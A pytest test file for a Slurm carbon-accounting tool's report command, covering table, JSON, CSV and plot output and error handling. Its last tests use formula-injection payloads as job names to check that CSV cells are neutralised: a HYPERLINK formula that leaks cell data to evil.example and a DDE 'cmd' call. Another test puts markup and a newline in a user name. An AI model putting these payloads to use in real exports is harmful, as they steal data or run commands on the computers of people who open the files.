"""``slurm-green report``: per job, per user and per account over a period, as a table, JSON,
CSV and a plot, from a real store; accounts from a stand-in ``sacct`` on PATH."""

from __future__ import annotations

import csv
import io
import json
import os

from cli_setup import write_config
from click.testing import CliRunner

from slurm_green.cli import main
from slurm_green.controller.store import StateStore
from slurm_green.core.cluster import Job, JobState
from slurm_green.core.plan import JobDecision

DAY = 86400.0
T0 = 1_790_000_000.0  # 2026-09-21


def store_with_jobs(tmp_path):
    """alice ran job 1 on day 0 (metered) and job 3 on day 10; bob ran job 2 on day 0."""
    store = StateStore(tmp_path / "state.db")
    for job_id, user, day in ((1, "alice", 0), (2, "bob", 0), (3, "alice", 10)):
        t = T0 + day * DAY
        store.record_decisions(t, [JobDecision(job_id, start_at=t + 3600, reason="deferred", expected_runtime_s=3600,
                                               expected_energy_kwh=1.0, expected_carbon_kg=0.1,
                                               carbon_if_now_kg=0.4, gpu_type="a40" if day else "h100")])
        job = Job(job_id, user=user, submit_time=t, start_time=t + 3600, end_time=t + 7200, state=JobState.COMPLETED)
        store.observe_jobs(t + 7300, [job])
        store.account_usage(t + 7300, [job], None)  # 1 kWh modelled; no carbon signal, no carbon
    store.record_metered_run(1, [(None, 0.8)])
    store.close()


def sacct_path(tmp_path, script: str) -> dict[str, str]:
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "sacct").write_text("#!/bin/sh\n" + script)
    (bin_dir / "sacct").chmod(0o755)
    return {"PATH": f"{bin_dir}:{os.environ['PATH']}"}


ACCOUNTS = 'printf "1|physics\\n2|biology\\n3|physics\\n"\n'


def report(tmp_path, *args, sacct=ACCOUNTS):
    store_with_jobs(tmp_path)
    config = write_config(tmp_path)
    return CliRunner().invoke(main, ["report", "--config", str(config), *args], env=sacct_path(tmp_path, sacct))


def test_a_users_jobs_in_a_period_with_metered_energy_first(tmp_path):
    result = report(tmp_path, "--user", "alice", "--since", "2026-09-20", "--until", "2026-09-25", "--json")
    assert result.exit_code == 0, result.output
    out = json.loads(result.output)
    assert [row["job_id"] for row in out["jobs"]] == [1]
    assert out["jobs"][0]["energy_kwh"] == 0.8 and out["jobs"][0]["energy_method"] == "metered"
    assert out["by_account"] == [{"account": "physics", "jobs": 1, "energy_kwh": 0.8, "metered_jobs": 1,
                                  "run_carbon_kg": 0.0, "saved_kg": 0.30000000000000004, "at_once_kg": 0.4}]


def test_per_account_csv_and_plot(tmp_path):
    plot = tmp_path / "by-user.png"
    result = report(tmp_path, "--account", "physics", "--csv", "--plot", str(plot))
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.output)))
    assert [(r["job_id"], r["user"], r["account"], r["energy_method"], r["gpu_type"]) for r in rows] == [
        ("1", "alice", "physics", "metered", "h100"), ("3", "alice", "physics", "modelled", "a40")]
    assert rows[0]["actual_start"].endswith("+00:00")
    assert plot.stat().st_size > 1000


def test_the_table_sums_per_user_and_per_account(tmp_path):
    result = report(tmp_path)
    assert result.exit_code == 0, result.output
    assert "per user" in result.output and "per account" in result.output and "biology" in result.output
    assert "estimated carbon saved: 0.9000 kg (75.0%) over 3 jobs" in result.output


def test_without_sacct_accounts_are_unknown_and_account_filter_says_why(tmp_path):
    failing = 'echo "sacct: error: Slurm accounting storage is disabled" >&2; exit 1\n'
    result = report(tmp_path, "--json", sacct=failing)
    assert result.exit_code == 0, result.output
    assert json.loads(result.output)["notes"] == ["accounts unknown (sacct: sacct: error: Slurm accounting storage "
                                                  "is disabled)"]
    filtered = CliRunner().invoke(main, ["report", "--config", str(tmp_path / "config.toml"), "--account", "x"],
                                  env={"PATH": f"{tmp_path / 'bin'}:{os.environ['PATH']}"})
    assert filtered.exit_code == 1
    assert "Error: --account needs Slurm's accounting (sacct), which failed" in filtered.output


def test_bad_period_and_options_are_refused_in_one_line(tmp_path):
    for args, words in ((["--since", "last week"], "neither a duration"),
                        (["--since", "1d", "--until", "2d"], "is not after --since"),
                        (["--json", "--csv"], "exclude each other"),
                        (["--plot", "/nonexistent/x.png"], "is not a directory")):
        result = CliRunner().invoke(main, ["report", "--config", str(write_config(tmp_path)), *args])
        assert result.exit_code == 2 and words in result.output, (args, result.output)


def test_the_table_shows_users_as_written_and_inert(tmp_path):
    """A user (as the store recorded it) or account holding "[...]" or a newline is neither markup nor a new row."""
    store_with_jobs(tmp_path)
    store = StateStore(tmp_path / "state.db")
    t = T0 + 20 * DAY
    store.record_decisions(t, [JobDecision(4, start_at=t, reason="deferred", expected_runtime_s=3600)])
    job = Job(4, user="[/x][mallory]\nforged", submit_time=t, start_time=t, end_time=t + 60, state=JobState.COMPLETED)
    store.observe_jobs(t + 100, [job])
    store.close()
    config = write_config(tmp_path)
    sacct = sacct_path(tmp_path, 'printf "4|[bold]phys\\n"\n')
    result = CliRunner().invoke(main, ["report", "--config", str(config)], env={**sacct, "COLUMNS": "300"})
    assert result.exit_code == 0, result.output
    assert result.output.count("[/x][mallory]\\nforged") == 2 and result.output.count("[bold]phys") == 2


def test_csv_text_cells_are_never_live_formulas_and_numbers_stay_numbers(tmp_path):
    """A job name is the user's: ``=HYPERLINK(...)`` in the export ran in the admin's spreadsheet."""
    store = StateStore(tmp_path / "state.db")
    names = {1: '=HYPERLINK("http://evil.example/?"&B3,"open")', 2: "+1+cmd|' /C calc'!A0", 3: "-2+3",
             4: "@SUM(A1:A9)", 5: "\t=1+1", 7: "resnet-50", 8: "a\rforged"}
    for job_id, name in names.items():
        store.record_decisions(T0, [JobDecision(job_id, start_at=T0 + 3600, reason="=1+1" if job_id == 1 else "deferred",
                                                expected_runtime_s=3600, expected_carbon_kg=0.1, carbon_if_now_kg=0.4)])
        store.observe_jobs(T0, [Job(job_id, name=name, user="mallory", state=JobState.PENDING, submit_time=T0)])
    store.close()
    result = CliRunner().invoke(main, ["report", "--csv", "--config", str(write_config(tmp_path))],
                                env=sacct_path(tmp_path, 'printf "1|-physics\\n"\n'))
    assert result.exit_code == 0, result.output
    rows = {int(r["job_id"]): r for r in csv.DictReader(io.StringIO(result.stdout))}
    assert {job_id: rows[job_id]["name"] for job_id in names} == {
        job_id: name if job_id in (7, 8) else f"'{name}" for job_id, name in names.items()}
    assert sorted(rows) == sorted(names)  # a carriage return in a name is no row of its own
    assert rows[1]["reason"] == "'=1+1" and rows[2]["reason"] == "deferred" and rows[1]["account"] == "'-physics"
    assert float(rows[1]["expected_carbon_kg"]) == 0.1 and rows[1]["cap_fraction"] == ""


def test_text_cells_starting_as_formulas_get_a_quote_and_others_are_kept():
    from slurm_green.cli.accounting import _text_cell

    assert [_text_cell(v) for v in ("\r=1", "\t=1", "-x", "x-y", "", None, -0.5, 3)] == [
        "'\r=1", "'\t=1", "'-x", "x-y", "", None, -0.5, 3]


def test_a_period_datetime_cannot_show_is_a_usage_error_not_a_bug(tmp_path):
    """``--since 1000000d`` (before year 1) parsed, then showing it was an internal error, exit 70."""
    for args in (["--since", "1000000d"], ["--since", "0001-01-01"], ["--until", "9" * 400 + "d"]):
        result = CliRunner().invoke(main, ["report", "--config", str(write_config(tmp_path)), *args])
        assert result.exit_code == 2 and "more than 100 years from now" in result.output, (args, result.output)
